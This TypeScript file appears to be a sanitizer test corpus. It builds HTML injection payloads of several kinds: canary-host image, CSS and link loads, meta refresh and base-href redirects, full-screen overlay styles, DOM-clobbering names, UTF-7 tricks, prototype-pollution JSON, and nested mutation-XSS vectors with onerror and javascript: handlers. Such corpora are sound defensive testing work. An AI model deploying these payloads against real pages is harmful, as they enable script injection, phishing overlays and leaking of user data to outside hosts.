/** Harm without running: asks other hosts, covers the page, takes its names, or is without end. */
import type { Form } from './corpus.ts';

const pictures: readonly Form[] = [
  ({ canary }) => `<img src="${canary}.png" alt="words">`,
  ({ canary }) => `<img src='${canary}.png'>`,
  ({ canary }) => `<IMG SRC=${canary}.png>`,
  ({ canary }) => `<img src="${canary.replace('https', 'HTTPS')}.png" alt=words>`,
  ({ canary }) => `<img src="${canary.replace('https', 'http')}.png" alt=words>`,
  ({ canary }) => `<img src="/\\${canary.slice(8)}" alt=words>`,
  ({ canary }) => `<img src="${canary.replace('https://', 'https://localhost@')}" alt=words>`,
  ({ canary }) => `<img src="/none.png" srcset="${canary}.png 1x, ${canary}2.png 2x" alt=words>`,
  ({ canary }) => `<img alt=words sizes=100vw srcset="${canary}.png 100w" loading=eager fetchpriority=high>`,
  ({ canary }) =>
    `<img alt=words lowsrc="${canary}" dynsrc="${canary}" longdesc="${canary}" attributionsrc="${canary}">`,
  ({ canary }) => `<picture><source srcset="${canary}.avif"><img src="/none.png" alt=words></picture>`,
  ({ canary }) => `<video poster="${canary}.png" src="${canary}.mp4" autoplay preload=auto></video>`,
  ({ canary }) => `<audio src="${canary}.ogg" autoplay preload=auto></audio>`,
  ({ canary }) => `<table background="${canary}.png"><tr><td background="${canary}.png">words</table>`,
  ({ canary }) => `<body background="${canary}.png">`,
  ({ canary }) => `<input type=image src="${canary}.png">`,
  ({ canary }) => `<image src="${canary}.png">`,
];

const styles: readonly Form[] = [
  ({ canary }) => `<style>@import "${canary}.css";</style>`,
  ({ canary }) => `<style>@import url(${canary}.css) layer(x);</style>`,
  ({ canary }) => `<style>body{background:url(${canary})}</style>`,
  ({ canary }) => `<style>@font-face{font-family:x;src:url(${canary})}*{font-family:x}</style>`,
  ({ canary }) => `<style>input[value^=a]{background:url(${canary})}</style>`,
  ({ canary }) => `<p style="background:url(${canary})">words</p>`,
  ({ canary }) => `<p style="background-image:image-set('${canary}' 1x)">words</p>`,
  ({ canary }) => `<p style="list-style:url(${canary});display:list-item">words</p>`,
  ({ canary }) => `<p style="cursor:url(${canary}),auto;border-image:url(${canary})">words</p>`,
  ({ canary }) => `<p style="content:url(${canary})">words</p>`,
  ({ call }) => `<p style="width:expression(${call})">words</p>`,
  ({ call }) => `<p style="background:url(javascript:${call})">words</p>`,
  ({ call }) => `<p style="behavior:url(#x);-moz-binding:url(data:text/xml,${call})">words</p>`,
  () => `<style>body,main,header{display:none!important}</style>`,
  () => `<style media=print>*{visibility:hidden}</style><style>html{transform:scale(0)}</style>`,
  ({ canary }) => `<svg><style>@import "${canary}.css";</style></svg>`,
  ({ canary }) => `<link rel=stylesheet href="${canary}.css">`,
  ({ canary }) => `<link rel="prefetch preload" as=script href="${canary}.js">`,
  ({ canary }) => `<link rel=dns-prefetch href="${canary}"><link rel=preconnect href="${canary}">`,
  ({ canary }) => `<link rel=icon href="${canary}.ico"><link rel=manifest href="${canary}.json">`,
];

const covers: readonly Form[] = [
  'position:fixed;inset:0;z-index:2147483647;background:#fff',
  'position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;z-index:9999',
  'position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0',
  'display:block;margin:-5000px;padding:5000px;position:relative;z-index:9',
  'position:sticky;top:0;height:200vh;background:red',
].flatMap((style): Form[] => [
  ({ canary }) => `<a href="${canary}" style="${style}">go</a>`,
  () => `<div style="${style}">Your session has ended</div>`,
  () => `<p class="${style}" style='${style}'>words</p>`,
  () => `<svg style="${style}"><rect width=100% height=100% /></svg>`,
  () => `<dialog open style="${style}">words</dialog><div popover=manual style="${style}">words</div>`,
]);

const takenNames = (
  'root main page news body head forms images location hit getElementById querySelector createElement ' +
  'documentElement cookie defaultView trustedTypes __proto__ constructor prototype hasOwnProperty ' +
  'toString name contact title message email'
).split(' ');
const names: readonly Form[] = takenNames.flatMap((name): Form[] => [
  () =>
    `<form id=${name} name=${name}><input id=${name} name=${name}><input name=attributes><input name=childNodes></form>`,
  () => `<a id=${name} name=${name}>x</a><img id=${name} name=${name} src=/none><b id=${name}>x</b>`,
  () =>
    `<iframe name=${name}></iframe><object id=${name}></object><output form=${name} name=${name}></output>`,
]);

const documents: readonly Form[] = [
  ({ canary }) => `<base href="${canary}/">`,
  ({ canary }) => `<base target=_blank href="${canary}/"><a href="relative">go</a>`,
  ({ canary }) => `<meta http-equiv=refresh content="0;url=${canary}">`,
  ({ call }) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  () => `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  () =>
    `<meta http-equiv="set-cookie" content="a=b"><meta charset=utf-7><meta name=referrer content=unsafe-url>`,
  ({ canary }) => `<form action="${canary}" method=post><input name=q><button>go</button></form>`,
  ({ canary }) =>
    `<button form=contact formaction="${canary}">go</button><input form=contact type=submit formaction="${canary}">`,
  ({ canary }) => `<a href="${canary}" target=_blank>go</a>`,
  ({ canary }) => `<a href="${canary}" target=_blank rel="opener noopener-not">go</a>`,
  ({ canary }) => `<a href="/News" ping="${canary}">go</a>`,
  ({ canary }) => `<a href="/News" download="${canary}" hreflang=x referrerpolicy=unsafe-url>go</a>`,
  () => `</div></main></body></html><main id=main>words</main>`,
  () => `<html lang=xx><head><title>Taken</title></head><body class=taken id=root>words</body></html>`,
  () => `<div data-island=carousel data-key=news data-hydrate=load data-static data-slot=x>words</div>`,
  () => `<h1>Another first heading</h1><main>words</main><header role=banner>words</header>`,
  () =>
    `<p hidden aria-hidden=true inert tabindex=9 accesskey=a contenteditable draggable=true dir=rtl>words</p>`,
  () => `+ADw-script+AD4-hit(1)+ADw-/script+AD4-`,
  () => `\u202ewords\u202c \u0000 \ud800 \ufffe`,
  () => '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
];

const large: readonly Form[] = [
  ({ call }) => `${'<div>'.repeat(5000)}<img src=x: onerror=${call}>`,
  ({ call }) => `${'<b>'.repeat(5000)}<img src=x: onerror=${call}>`,
  ({ call }) => `<p ${'a '.repeat(5000)}>${'<i>a</i>'.repeat(500)}<img src=x: onerror=${call}>`,
  ({ call }) => `${'words '.repeat(8000)}<img src=x: onerror=${call}>`,
  ({ call }) => `<p title="${'"<'.repeat(5000)}><img src=x: onerror=${call}>`,
  ({ call }) => `${'<!--'.repeat(2000)}--><img src=x: onerror=${call}>`,
  ({ call }) => `<table>${'<tr><td>'.repeat(500)}<svg><style><img src=x: onerror=${call}>`,
  ({ call }) =>
    `${"<a href=/ title='\"'>x</a>".repeat(200)}<style><p title="</style><img src=x: onerror=${call}>">`,
  ({ call }) => `${'<br>'.repeat(200)}<script>${call}</script><svg onload=${call}>`,
  ({ call }) =>
    `${'<p>'.repeat(200)}<math><mtext><table><mglyph><style><!--</style><img src=x: onerror=${call}>`,
  ({ call }) => `${'<br>'.repeat(200)}<a href="javascript:${call}" onclick=${call}>go</a><p/onclick=${call}>`,
  ({ call }) =>
    `${'<br>'.repeat(200)}<p lang="&quot;onclick=${call} x=&quot;" title='"onfocus=${call} tabindex=0 x='>`,
];

export const harmPayloads: Record<string, readonly Form[]> = {
  picture: pictures,
  style: styles,
  cover: covers,
  name: names,
  document: documents,
  large,
};
